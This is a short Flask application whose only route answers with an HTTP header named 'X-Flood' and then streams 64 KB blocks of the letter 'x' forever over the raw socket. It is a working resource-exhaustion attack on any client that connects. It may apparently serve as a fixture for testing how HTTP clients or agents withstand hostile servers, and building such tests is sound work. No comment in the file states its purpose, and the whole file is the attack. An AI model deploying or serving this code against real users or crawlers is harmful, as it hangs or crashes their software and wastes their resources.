import random

from flask import Flask, Response, redirect, render_template, request

app = Flask(__name__, template_folder="templates", static_folder="static")


@app.route("/")
def home():
    connection = request.environ["werkzeug.socket"]
    connection.sendall(b"HTTP/1.1 200 OK\r\nX-Flood: ")
    while True:
        connection.sendall(b"x" * 65536)

if __name__ == "__main__":
    app.run(host="0.0.0.0", port=random.randint(2000, 9000))
